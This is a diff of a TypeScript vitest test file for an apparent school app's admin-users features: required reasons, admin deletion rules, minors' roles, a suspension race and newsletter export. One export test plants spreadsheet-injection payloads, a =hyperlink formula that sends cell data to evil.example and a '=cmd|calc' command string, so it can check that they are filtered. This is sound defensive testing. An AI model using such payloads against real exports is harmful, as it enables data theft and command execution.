@@ -3,8 +3,8 @@ import path from 'node:path';
 import { randomUUID } from 'node:crypto';
 import sharp from 'sharp';
 import { sql } from 'drizzle-orm';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { ADMIN_USER_LIMITS, suspendedMessage } from '../../../domain/admin-users';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { ADMIN_USER_LIMITS, ADMIN_USER_REFUSALS, suspendedMessage } from '../../../domain/admin-users';
 import { totp } from '../../../../tests/e2e/totp';
 import { configuredAdmin } from '../../config';
 import { bootstrapAdmin } from '../accounts/bootstrap-admin';
@@ -26,11 +26,31 @@ import {
   type TestApp,
 } from '../../testing/test-app';
 import { ADMIN_USERS_MESSAGES } from './admin-users-refusals';
+import type * as CurrentSuspension from './current-suspension';
 import { watchAdminUsers, type AdminUsersStreamEvent } from './watch-admin-users';
+
+/**
+ * A gate in the sign-in's suspension check (review 22 M1): the real read runs, then the test may act before the
+ * answer goes back, exactly where a suspension could commit between the check and better-auth's insert. The
+ * database is the real one; only the moment is chosen.
+ */
+const suspensionGate = vi.hoisted(() => ({ at: null as null | ((userId: string) => Promise<void>) }));
+vi.mock('./current-suspension', async (importOriginal) => {
+  const real = await importOriginal<typeof CurrentSuspension>();
+  return {
+    ...real,
+    suspensionRefusingSignIn: async (...args: Parameters<typeof real.suspensionRefusingSignIn>) => {
+      const found = await real.suspensionRefusingSignIn(...args);
+      const gate = suspensionGate.at;
+      if (gate) await gate(args[1]);
+      return found;
+    },
+  };
+});
 
 let app: TestApp;
 let admin: TestUser;
-const { call, ok } = trpcAs(() => app);
+const { call, callRaw, ok } = trpcAs(() => app);
 
 beforeAll(async () => {
   app = await createTestApp(
@@ -82,7 +102,7 @@ async function newsletter(email: string, isActive = true) {
 
 async function secondAdmin(): Promise<TestUser> {
   const other = await testUser(app, { firstName: 'Second', lastName: 'Admin' });
-  await ok(admin, 'adminUsers.setAdmin', { userId: other.id, admin: true });
+  await ok(admin, 'adminUsers.setAdmin', { userId: other.id, admin: true, reason: 'Testing' });
   return other;
 }
 
@@ -217,6 +237,21 @@ describe('newsletter-only subscriptions and the export', () => {
   const nextPage = (cursor: { subscribedAt: string; id: string } | null) =>
     ok(admin, 'adminUsers.newsletterOnly', { cursor });
 
+  it('leaves out stored values that would add lines or a formula, and quotes a formula-like address', async () => {
+    const planted = 'kid@example.com\r\n=hyperlink("http://evil.example/?"&a1,"click")@x\r\nplanted@evil.example';
+    await newsletter(planted);
+    await newsletter('=cmd|calc@x');
+    const quoted = `-${randomUUID().slice(0, 6)}@example.com`;
+    await newsletter(quoted);
+    const { text, skipped } = await ok(admin, 'adminUsers.exportNewsletter');
+    const lines = text.split('\n').filter(Boolean);
+    expect(skipped).toBeGreaterThanOrEqual(2);
+    expect(lines.some((l) => l.includes('hyperlink') || l.includes('planted@') || l.includes('cmd|calc'))).toBe(false);
+    expect(lines).toContain(`'${quoted}`);
+    expect(lines.every((l) => !/^[=+\-@\t]/.test(l))).toBe(true);
+    await db().execute(sql`delete from newsletter_subscriptions where email in (${planted}, '=cmd|calc@x', ${quoted})`);
+  });
+
   it('exports exactly the active subscriptions’ emails, one per line, sorted', async () => {
     const text = (await ok(admin, 'adminUsers.exportNewsletter')).text;
     const expected = await rows<{ email: string }>(
@@ -262,21 +297,44 @@ describe('adminUsers.delete', () => {
 
   it('refuses oneself and an unknown user, writes nothing', async () => {
     const before = await auditCount();
-    const self = await call(admin, 'adminUsers.delete', { userId: admin.id });
+    const self = await call(admin, 'adminUsers.delete', { userId: admin.id, reason: 'Testing' });
     expect(self.status).toBe(403);
     expect(self.error?.message).toBe(ADMIN_USERS_MESSAGES.deleteSelf);
-    const unknown = await call(admin, 'adminUsers.delete', { userId: randomUUID() });
+    const unknown = await call(admin, 'adminUsers.delete', { userId: randomUUID(), reason: 'Testing' });
     expect(unknown.status).toBe(404);
     expect(await signedIn(admin.cookie)).toBe(true);
     expect(await auditCount()).toBe(before);
   });
 
-  it('another admin may be deleted while one remains; a member may not delete anyone', async () => {
+  it('an admin is not deleted (remove the role first, audited), then may be; a member may not delete anyone', async () => {
     const other = await secondAdmin();
     const member = await testUser(app);
-    expect((await call(member, 'adminUsers.delete', { userId: other.id })).status).toBe(403);
-    await ok(admin, 'adminUsers.delete', { userId: other.id });
+    expect((await call(member, 'adminUsers.delete', { userId: other.id, reason: 'Testing' })).status).toBe(403);
+    const before = await auditCount();
+    const refused = await call(admin, 'adminUsers.delete', { userId: other.id, reason: 'Testing' });
+    expect(refused.status).toBe(409);
+    expect(refused.error?.message).toBe(ADMIN_USERS_MESSAGES.deleteAdmin);
+    expect(await signedIn(other.cookie)).toBe(true);
+    expect(await auditCount()).toBe(before);
+    await ok(admin, 'adminUsers.setAdmin', { userId: other.id, admin: false, reason: 'Leaving' });
+    await ok(admin, 'adminUsers.delete', { userId: other.id, reason: 'Left the school' });
     expect(await rows(sql`select 1 from users where id = ${other.id}`)).toHaveLength(0);
+  });
+
+  it('requires a reason for delete, setAdmin and unsuspend, and changes nothing without one', async () => {
+    const member = await testUser(app);
+    const before = await auditCount();
+    for (const [path, input] of [
+      ['adminUsers.delete', { userId: member.id }],
+      ['adminUsers.delete', { userId: member.id, reason: '  ' }],
+      ['adminUsers.setAdmin', { userId: member.id, admin: true }],
+      ['adminUsers.unsuspend', { userId: member.id, reason: '' }],
+    ] as const) {
+      expect((await callRaw(admin, path, input)).status, path).toBe(400);
+    }
+    expect(await signedIn(member.cookie)).toBe(true);
+    expect(await rows(sql`select 1 from user_roles where user_id = ${member.id}`)).toHaveLength(0);
+    expect(await auditCount()).toBe(before);
   });
 });
 
@@ -291,11 +349,11 @@ describe('adminUsers.setAdmin', () => {
     });
     await changed;
     expect((await call(member, 'adminUsers.list', {})).status).toBe(200);
-    await ok(admin, 'adminUsers.setAdmin', { userId: member.id, admin: false });
+    await ok(admin, 'adminUsers.setAdmin', { userId: member.id, admin: false, reason: 'Testing' });
     expect((await call(member, 'adminUsers.list', {})).status).toBe(403);
     expect((await auditOf(member.id)).map((a) => [a.action, a.actor_id, a.details])).toEqual([
       ['admin.role-granted', admin.id, { reason: 'Moderator' }],
-      ['admin.role-revoked', admin.id, { reason: null }],
+      ['admin.role-revoked', admin.id, { reason: 'Testing' }],
     ]);
     const events = await rows<{ admin: boolean }>(
       sql`select (payload ->> 'admin')::boolean as admin from domain_events
@@ -307,11 +365,11 @@ describe('adminUsers.setAdmin', () => {
   it('granting an admin or removing a non-admin changes nothing and records nothing', async () => {
     const member = await testUser(app);
     const before = await auditCount();
-    expect(await ok(admin, 'adminUsers.setAdmin', { userId: member.id, admin: false })).toEqual({
+    expect(await ok(admin, 'adminUsers.setAdmin', { userId: member.id, admin: false, reason: 'Testing' })).toEqual({
       ok: true,
       changed: false,
     });
-    expect(await ok(admin, 'adminUsers.setAdmin', { userId: admin.id, admin: true })).toMatchObject({
+    expect(await ok(admin, 'adminUsers.setAdmin', { userId: admin.id, admin: true, reason: 'Testing' })).toMatchObject({
       changed: false,
     });
     expect(await auditCount()).toBe(before);
@@ -319,13 +377,13 @@ describe('adminUsers.setAdmin', () => {
 
   it('refuses removing one’s own role (the last admin’s too), and granting a suspended user', async () => {
     const before = await auditCount();
-    const self = await call(admin, 'adminUsers.setAdmin', { userId: admin.id, admin: false });
+    const self = await call(admin, 'adminUsers.setAdmin', { userId: admin.id, admin: false, reason: 'Testing' });
     expect(self.status).toBe(403);
     expect(self.error?.message).toBe(ADMIN_USERS_MESSAGES.demoteSelf);
     const member = await testUser(app);
     await ok(admin, 'adminUsers.suspend', { userId: member.id, days: 3, reason: 'Cooling off' });
     const afterSuspend = await auditCount();
-    const grant = await call(admin, 'adminUsers.setAdmin', { userId: member.id, admin: true });
+    const grant = await call(admin, 'adminUsers.setAdmin', { userId: member.id, admin: true, reason: 'Testing' });
     expect(grant.status).toBe(409);
     expect(grant.error?.message).toBe(ADMIN_USERS_MESSAGES.grantSuspended);
     expect(await rows(sql`select 1 from user_roles where user_id = ${member.id}`)).toHaveLength(0);
@@ -334,12 +392,26 @@ describe('adminUsers.setAdmin', () => {
     expect(await rows(sql`select 1 from user_roles where user_id = ${admin.id} and role = 'admin'`)).toHaveLength(1);
   });
 
+  it('refuses granting the role to a minor or to someone without a date of birth, and says why', async () => {
+    const minor = await testUser(app, { dateOfBirth: '2013-05-01' });
+    const unknown = await testUser(app);
+    await db().execute(sql`update profiles set date_of_birth = null where id = ${unknown.id}`);
+    const before = await auditCount();
+    for (const who of [minor, unknown]) {
+      const grant = await call(admin, 'adminUsers.setAdmin', { userId: who.id, admin: true, reason: 'Helper' });
+      expect(grant.status).toBe(409);
+      expect(grant.error?.message).toBe(ADMIN_USER_REFUSALS.grantNotAdult);
+      expect(await rows(sql`select 1 from user_roles where user_id = ${who.id}`)).toHaveLength(0);
+    }
+    expect(await auditCount()).toBe(before);
+  });
+
   it('two admins removing each other at once leave one admin, never none', async () => {
     const a = await secondAdmin();
     const b = await secondAdmin();
     const results = await Promise.all([
-      call(a, 'adminUsers.setAdmin', { userId: b.id, admin: false }),
-      call(b, 'adminUsers.setAdmin', { userId: a.id, admin: false }),
+      call(a, 'adminUsers.setAdmin', { userId: b.id, admin: false, reason: 'Testing' }),
+      call(b, 'adminUsers.setAdmin', { userId: a.id, admin: false, reason: 'Testing' }),
     ]);
     expect(results.map((r) => r.status).sort()).toEqual([200, 403]);
     const left = await rows(sql`select 1 from user_roles where user_id in (${a.id}, ${b.id}) and role = 'admin'`);
@@ -355,8 +427,8 @@ describe('the bootstrapped admin stays the way in', () => {
       const ownCall = trpcAs(own);
       const a = await signInAdmin(own);
       const b = await testUser(own, { firstName: 'Bea' });
-      await ownCall.ok(a, 'adminUsers.setAdmin', { userId: b.id, admin: true });
-      await ownCall.ok(b, 'adminUsers.setAdmin', { userId: a.id, admin: false });
+      await ownCall.ok(a, 'adminUsers.setAdmin', { userId: b.id, admin: true, reason: 'Testing' });
+      await ownCall.ok(b, 'adminUsers.setAdmin', { userId: a.id, admin: false, reason: 'Testing' });
       expect((await ownCall.call(a, 'adminUsers.list', {})).status).toBe(403);
       // Two-factor as the owner would have it (the flag is what a reset would clear).
       await own.database.db.execute(sql`update users set two_factor_enabled = true where id = ${a.id}`);
@@ -431,11 +503,12 @@ describe('suspensions', () => {
     expect(refused.response.json().message).toBe(
       'Your account is suspended until further notice. Reason: Under review',
     );
-    await ok(admin, 'adminUsers.unsuspend', { userId: member.id });
+    await ok(admin, 'adminUsers.unsuspend', { userId: member.id, reason: 'Testing' });
     expect((await signIn(app, member.email, STRONG_PASSWORD)).response.statusCode).toBe(200);
     expect((await auditOf(member.id)).map((a) => a.action)).toEqual(['user.suspended', 'user.unsuspended']);
+    expect((await auditOf(member.id))[1]!.details).toEqual({ until: null, reason: 'Testing' });
     expect((await ok(admin, 'adminUsers.list', {})).items.find((u) => u.id === member.id)?.suspension).toBeNull();
-    const again = await call(admin, 'adminUsers.unsuspend', { userId: member.id });
+    const again = await call(admin, 'adminUsers.unsuspend', { userId: member.id, reason: 'Testing' });
     expect(again.status).toBe(409);
   });
 
@@ -476,6 +549,32 @@ describe('suspensions', () => {
     expect(second.json()).toMatchObject({ code: 'ACCOUNT_SUSPENDED' });
     expect(cookieHeader(second)).not.toMatch(/session_token=[^;]/);
     expect(await rows(sql`select 1 from sessions where user_id = ${member.id}`)).toHaveLength(0);
+    // The password step alone gives the dates, never the admin's words (review 22 L2); the code step gives both.
+    const passwordOnly = await signIn(app, member.email, STRONG_PASSWORD);
+    expect(passwordOnly.response.statusCode).toBe(403);
+    expect(passwordOnly.response.json().message).toMatch(/^Your account is suspended until \w+ \d+, \d{4}\.$/);
+    expect(second.json().message).toContain('Reason: Two steps');
+  });
+
+  it('a sign-in racing a suspension gets no session (review 22 M1): the check is made again once it exists', async () => {
+    const member = await testUser(app);
+    let reason = '';
+    // The gate: the sign-in's first check has just passed; the whole suspension runs and commits right then,
+    // before better-auth inserts the session.
+    suspensionGate.at = async (userId) => {
+      if (userId !== member.id) return;
+      suspensionGate.at = null;
+      reason = 'Raced';
+      await ok(admin, 'adminUsers.suspend', { userId: member.id, days: 2, reason });
+    };
+    const raced = await signIn(app, member.email, STRONG_PASSWORD);
+    expect(reason).toBe('Raced');
+    expect(raced.response.statusCode).toBe(403);
+    expect(raced.response.json()).toMatchObject({ code: 'ACCOUNT_SUSPENDED' });
+    expect(raced.response.json().message).toContain('Reason: Raced');
+    expect(raced.cookie).not.toMatch(/session_token=[^;]/);
+    expect(await rows(sql`select 1 from sessions where user_id = ${member.id}`)).toHaveLength(0);
+    expect(await signedIn(member.cookie)).toBe(false);
   });
 
   it('refuses oneself, an admin and an unknown user, and writes nothing', async () => {
@@ -517,7 +616,7 @@ describe('adminUsers.events', () => {
     await new Promise((resolve) => setTimeout(resolve, 50));
     const member = await testUser(app, { firstName: 'Live', lastName: 'Row' });
     await ok(admin, 'adminUsers.suspend', { userId: member.id, days: null, reason: 'Live' });
-    await ok(admin, 'adminUsers.delete', { userId: member.id });
+    await ok(admin, 'adminUsers.delete', { userId: member.id, reason: 'Testing' });
     await reading;
     controller.abort();
     const mine = received.filter((e) => e.userId === member.id);
@@ -541,7 +640,7 @@ describe('adminUsers.events', () => {
     const stream = watchAdminUsers({ db: db(), bus: app.bus, user: { id: other.id } }, { recheckMs: 0 });
     const next = stream.next();
     await new Promise((resolve) => setTimeout(resolve, 50));
-    await ok(admin, 'adminUsers.setAdmin', { userId: other.id, admin: false });
+    await ok(admin, 'adminUsers.setAdmin', { userId: other.id, admin: false, reason: 'Testing' });
     await expect(next).rejects.toMatchObject({ code: 'ADMIN_ONLY' });
   });
 });
